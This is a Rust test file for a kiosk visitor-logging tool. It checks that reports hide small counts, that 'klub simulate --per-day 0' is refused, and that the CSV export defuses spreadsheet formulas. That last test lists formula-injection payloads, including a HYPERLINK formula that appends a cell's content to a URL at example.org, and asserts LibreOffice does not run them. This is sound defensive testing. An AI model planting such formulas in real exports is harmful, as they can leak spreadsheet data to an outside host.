//! The organiser's outputs against hostile or revealing data: spreadsheet formulas in the CSV
//! export (read back by the real LibreOffice), small counts undone by subtraction in the
//! report, and `klub simulate --per-day 0`.

mod support;

use klub_kiosk::domain::config::{AgeBand, Situation, VisitContext};
use klub_kiosk::domain::scoring::Answer;
use klub_kiosk::domain::session::{Event, Outcome, SessionId, Source};
use klub_kiosk::domain::text::Lang;
use klub_kiosk::domain::text::escape_markup as esc;
use klub_kiosk::report::export::{Cell, FORMULA_START, write_record};
use klub_kiosk::report::small;
use klub_kiosk::storage::record::{Record, SessionStart, Stamp};
use klub_kiosk::storage::time;
use klub_kiosk::storage::writer::{LogWriter, StationInfo};
use rusqlite::Connection;
use std::path::{Path, PathBuf};
use std::time::Duration;
use support::logs::{DAY, T0, klub, klub_ok, s};
use support::spreadsheet::{SheetCell, csv_rows, libreoffice_xlsx, xlsx_rows};

/// LibreOffice's CSV import: `;`, `"`, UTF-8, from line 1, and NOT « quoted field as text ».
const LO_PLAIN: &str = "59,34,76,1";

/// One session as a station logs it.
struct Visit {
    scenario: &'static str,
    /// Steps of the scenario.
    steps: usize,
    /// Steps shown before the session ended.
    reached: usize,
    completed: bool,
    wall: i64,
    clock_offset_ms: i64,
    seconds: i64,
}

fn visit(scenario: &'static str, steps: usize, reached: usize, wall: i64) -> Visit {
    Visit {
        scenario,
        steps,
        reached,
        completed: reached == steps,
        wall,
        clock_offset_ms: 0,
        seconds: 60,
    }
}

/// Writes the visits through the station's own writer.
fn station_log(dir: &Path, station: &str, visits: &[Visit]) -> PathBuf {
    let p = dir.join(format!("{station}.db"));
    let (log, _) = LogWriter::open(
        &p,
        StationInfo {
            station_id: station.into(),
        },
    )
    .unwrap();
    for v in visits {
        let id = SessionId::random().unwrap();
        let ms_per_step = v.seconds * 1000 / v.steps as i64;
        let at = |k: i64| Stamp {
            wall_ms: v.wall + k * ms_per_step,
            mono_ms: (v.wall.rem_euclid(DAY) + k * ms_per_step) as u64,
        };
        log.send(Record::Start(Box::new(SessionStart {
            id,
            pass: None,
            scenario: v.scenario.into(),
            trade: None,
            step_ids: (0..v.steps).map(|k| format!("etape-{k}")).collect(),
            lang: Lang::Fr,
            source: Source::Visitor,
            tour: Some("t-2026".into()),
            stop: Some("chartres".into()),
            context: VisitContext::ToutPublic,
            situation: Situation::default(),
            age_band: AgeBand::default(),
            clock_offset_ms: v.clock_offset_ms,
            at: at(0),
        })));
        for k in 0..v.reached {
            let mut events = vec![Event::Shown { step: k }];
            if k + 1 < v.reached || v.completed {
                events.push(Event::Answered {
                    step: k,
                    answer: Answer::Seen,
                    ms: ms_per_step as u64,
                });
            }
            log.send_events(id, events, at(k as i64));
        }
        let outcome = if v.completed {
            Outcome::Completed
        } else {
            Outcome::Abandoned
        };
        log.send_events(id, vec![Event::Ended { outcome }], at(v.steps as i64));
    }
    assert!(log.flush(Duration::from_secs(10)));
    p
}

/// Merges `log` into a tour (once) and returns `klub report` on it, in French or English.
fn report_html(dir: &Path, log: &Path, en: bool) -> String {
    let tour = dir.join("tour.db");
    if !tour.exists() {
        klub_ok(&["merge", s(log), "-o", s(&tour)]);
    }
    let html = dir.join(if en { "en.html" } else { "fr.html" });
    let mut args = vec![];
    if en {
        args.extend(["--lang", "en"]);
    }
    args.extend(["report", s(&tour), "-o", s(&html)]);
    klub_ok(&args);
    std::fs::read_to_string(html).unwrap()
}

/// The chart whose title contains `title`.
fn chart<'a>(html: &'a str, title: &str) -> &'a str {
    let at = html
        .find(title)
        .unwrap_or_else(|| panic!("no chart {title}"));
    let start = html[..at].rfind("<svg").unwrap();
    let end = at + html[at..].find("</svg>").unwrap();
    &html[start..end]
}

/// The texts of an SVG chart, in order.
fn texts(svg: &str) -> Vec<&str> {
    svg.split("<text")
        .skip(1)
        .map(|t| {
            let t = &t[t.find('>').unwrap() + 1..];
            &t[..t.find("</text>").unwrap()]
        })
        .collect()
}

/// The widths of the bars of an SVG chart.
fn widths(svg: &str) -> Vec<f64> {
    svg.split("<rect x=")
        .skip(1)
        .map(|r| {
            let w = &r[r.find("width=\"").unwrap() + 7..];
            w[..w.find('"').unwrap()].parse().unwrap()
        })
        .collect()
}

#[test]
fn small_counts_cannot_be_undone_by_subtraction() {
    let dir = tempfile::tempdir().unwrap();
    let mut visits = vec![];
    // 30 sessions of talents-express, 27 completed: 3 unfinished must not show.
    for k in 0..30 {
        let mut v = visit(
            "talents-express",
            3,
            if k < 27 { 3 } else { 1 },
            T0 + k * 600_000,
        );
        v.seconds = 60 + k;
        visits.push(v);
    }
    // A funnel 10 → 9 → 8: one drop-off at each of the first two steps must not show.
    for k in 0..10 {
        let reached = match k {
            0 => 1,
            1 => 2,
            _ => 3,
        };
        visits.push(visit("decouverte", 3, reached, T0 + DAY + k * 600_000));
    }
    let log = station_log(dir.path(), "borne-a", &visits);
    let html = report_html(dir.path(), &log, false);

    // Totals: 40 sessions, 35 completed; both multiples of 5.
    assert!(html.contains("<li>Sessions: 40</li>"), "{html}");
    assert!(html.contains("<li>Sessions terminées: 35</li>"), "{html}");

    // "30 sessions / 27 completed" is shown 30 / 25, the rate from the rounded counts.
    let talents = chart(&html, "« talents-express » :");
    assert_eq!(
        texts(talents)[0],
        "Parcours « talents-express » : 30 sessions, 25 terminées (83 %)"
    );
    assert!(!html.contains("27 terminées") && !html.contains("90 %"));
    assert_eq!(
        texts(talents)[1..],
        [
            "1. etape-0",
            "30 · arrêts : &lt; 5",
            "2. etape-1",
            "25 · arrêts : 0",
            "3. etape-2",
            "25 · arrêts : 0"
        ]
    );

    // The funnel 10 → 9 → 8 reads 10 → 10 → 10 next to « < 5 » drop-offs, bars included.
    let funnel = chart(&html, "« decouverte » :");
    assert_eq!(
        texts(funnel),
        [
            "Parcours « decouverte » : 10 sessions, 10 terminées (100 %)",
            "1. etape-0",
            "10 · arrêts : &lt; 5",
            "2. etape-1",
            "10 · arrêts : &lt; 5",
            "3. etape-2",
            "10 · arrêts : 0"
        ]
    );
    let w = widths(funnel);
    assert!(
        w.len() == 3 && w[0] > 0.0 && w[0] == w[1] && w[1] == w[2],
        "{w:?}"
    );

    // Medians: shown over 27 completed sessions (count rounded), hidden over 8.
    let median = chart(&html, "Durée médiane");
    let t = texts(median);
    let talents_median = t[t.iter().position(|x| *x == "talents-express").unwrap() + 1];
    assert!(
        talents_median.contains(" min ") && talents_median.ends_with("(25 sessions)"),
        "{talents_median}"
    );
    let funnel_median = t[t.iter().position(|x| *x == "decouverte").unwrap() + 1];
    assert_eq!(funnel_median, "non affichée : moins de 10 sessions");

    // Every table cell is 0, « < 5 » or a multiple of 5.
    for cell in html.split("<td>").skip(1) {
        let cell = &cell[..cell.find("</td>").unwrap()];
        assert!(
            cell == "&lt; 5" || cell.parse::<i64>().is_ok_and(|n| n % 5 == 0),
            "{cell}"
        );
    }

    // The note states the rule, in French and in English.
    assert!(html.contains(&esc(small::note(Lang::Fr))));
    let en = report_html(dir.path(), &log, true);
    assert!(en.contains(&esc(small::note(Lang::En))), "{en}");
    assert!(en.contains("Journey « talents-express » : 30 sessions, 25 completed (83 %)"));
    assert!(en.contains("not shown: fewer than 10 sessions"));
}

/// The cells of a sheet row by header name.
fn by_name<'a>(
    sheet: &'a [Vec<SheetCell>],
    header: &[String],
    row: usize,
    name: &str,
) -> &'a SheetCell {
    &sheet[row][header.iter().position(|h| h == name).unwrap()]
}

#[test]
fn csv_formulas_do_not_run_in_libreoffice_and_negative_numbers_stay_numbers() {
    let dir = tempfile::tempdir().unwrap();

    // LibreOffice runs a formula from a CSV when « quoted field as text » is not ticked: the
    // control row proves this run would see it.
    let hostile = [
        "=1+41",
        "=HYPERLINK(\"https://example.org/?\"&A1;\"clic\")",
        "+1+41",
        "-1+41",
        "@SUM(1;41)",
        "\t=1+41",
        "\r=1+41",
    ];
    assert_eq!(FORMULA_START.len(), 6);
    let csv = dir.path().join("hostile.csv");
    let mut bytes = "\u{feff}".as_bytes().to_vec();
    let mut row: Vec<Cell> = hostile.iter().map(|h| Cell::Text((*h).into())).collect();
    row.push(Cell::Number(-3_600_000));
    write_record(&mut bytes, b';', &row).unwrap();
    bytes.extend_from_slice(b"\"=1+41\";-3600000\r\n");
    std::fs::write(&csv, bytes).unwrap();
    let sheet = xlsx_rows(&libreoffice_xlsx(&csv, LO_PLAIN, dir.path()));
    assert_eq!(
        sheet[1][0],
        SheetCell {
            kind: "n".into(),
            value: "42".into(),
            formula: Some("1+41".into())
        },
        "control: a raw formula runs"
    );
    for (k, h) in hostile.iter().enumerate() {
        let c = &sheet[0][k];
        assert_eq!(c.formula, None, "{h:?} ran: {c:?}");
        assert_eq!(c.kind, "s", "{h:?}: {c:?}");
        // LibreOffice shows the apostrophe and reads a lone CR as a line break.
        assert_eq!(c.value, format!("'{}", h.replace('\r', "\n")), "{h:?}");
    }
    assert_eq!(
        (sheet[0][7].kind.as_str(), sheet[0][7].value.as_str()),
        ("n", "-3600000")
    );

    // Through `klub export`: a log that passes every CHECK can still hold a text cell that
    // starts with `-`, a start dated before year 0 (wall clocks are not CHECKed), next to a
    // negative clock correction.
    let ancient = time::days_from_civil(-248, 5, 12) * DAY + 8 * 3_600_000;
    let mut old = visit("talents-express", 2, 2, ancient);
    old.clock_offset_ms = -3_600_000;
    let mut now = visit("talents-express", 2, 2, T0);
    now.clock_offset_ms = -3_600_000;
    let log = station_log(dir.path(), "borne-c", &[old, now]);
    let exp = dir.path().join("exp");
    klub_ok(&["export", s(&log), "--out", s(&exp)]);
    let raw = std::fs::read_to_string(exp.join("sessions.csv")).unwrap();
    assert!(raw.contains(";\"'-248-05-12T"), "{raw}");
    assert!(raw.contains(";-3600000;"), "{raw}");
    // JSON Lines are not for spreadsheets: the text is kept as it is.
    let jsonl = std::fs::read_to_string(exp.join("sessions.jsonl")).unwrap();
    assert!(jsonl.contains("\"started_at\":\"-248-05-12T"), "{jsonl}");
    let rows = csv_rows(&exp.join("sessions.csv"), ";");
    let header = rows[0].clone();
    let sheet = xlsx_rows(&libreoffice_xlsx(
        &exp.join("sessions.csv"),
        LO_PLAIN,
        dir.path(),
    ));
    assert_eq!(sheet.len(), 3);
    for row in &sheet {
        for c in row {
            assert_eq!(c.formula, None, "{c:?}");
        }
    }
    let ancient_row = (1..3)
        .find(|r| {
            by_name(&sheet, &header, *r, "started_at")
                .value
                .contains("-248-")
        })
        .unwrap();
    let started = by_name(&sheet, &header, ancient_row, "started_at");
    assert_eq!(started.kind, "s");
    assert!(started.value.starts_with("'-248-05-12T"), "{started:?}");
    for r in 1..3 {
        let offset = by_name(&sheet, &header, r, "clock_offset_ms");
        assert_eq!(
            (offset.kind.as_str(), offset.value.as_str()),
            ("n", "-3600000")
        );
    }
}

#[test]
fn simulate_refuses_zero_visitors_a_day() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("sim.db");
    let scenarios = Path::new(env!("CARGO_MANIFEST_DIR")).join("scenarios");
    let run = |per_day: &str, lang: &str| {
        klub(&[
            "--lang",
            lang,
            "simulate",
            "--db",
            s(&db),
            "--station",
            "borne-1",
            "--visitors",
            "3",
            "--seed",
            "1",
            "--scenarios",
            s(&scenarios),
            "--per-day",
            per_day,
        ])
    };
    let out = run("0", "fr");
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("--per-day : au moins 1 visiteur par jour"),
        "{err}"
    );
    assert!(out.stdout.is_empty());
    assert!(!db.exists(), "nothing written");
    let err = String::from_utf8_lossy(&run("0", "en").stderr).into_owned();
    assert!(err.contains("--per-day: at least 1 visitor a day"), "{err}");

    // One a day: three days, the last one today.
    let before = time::now_ms();
    let out = run("1", "fr");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let c = Connection::open(&db).unwrap();
    let days: Vec<String> = c
        .prepare("SELECT started_wall_ms FROM sessions ORDER BY started_wall_ms")
        .unwrap()
        .query_map([], |r| r.get::<_, i64>(0))
        .unwrap()
        .map(|t| time::paris_day_hour(t.unwrap()).0)
        .collect();
    let today = [before, time::now_ms()].map(|t| time::paris_day_hour(t).0);
    assert_eq!(days.len(), 3);
    assert!(today.contains(&days[2]), "{days:?}");
    let first = time::parse_paris_date(&days[0]).unwrap();
    assert_eq!(
        time::paris_day_hour(first + 2 * DAY + 12 * 3_600_000).0,
        days[2]
    );
}

#[test]
fn export_and_report_survive_clock_values_at_the_ends_of_the_range() {
    let dir = tempfile::tempdir().unwrap();
    let mut visits = vec![];
    for (wall, offset) in [
        (i64::MAX - DAY, i64::MAX / 2),
        (i64::MIN + DAY, -i64::MAX / 2),
    ] {
        let mut v = visit("talents-express", 2, 2, wall);
        v.clock_offset_ms = offset;
        visits.push(v);
    }
    let log = station_log(dir.path(), "borne-d", &visits);
    let exp = dir.path().join("exp");
    klub_ok(&["export", s(&log), "--out", s(&exp)]);
    let html = report_html(dir.path(), &log, false);
    assert!(html.contains("<li>Sessions: &lt; 5</li>"), "{html}");
}
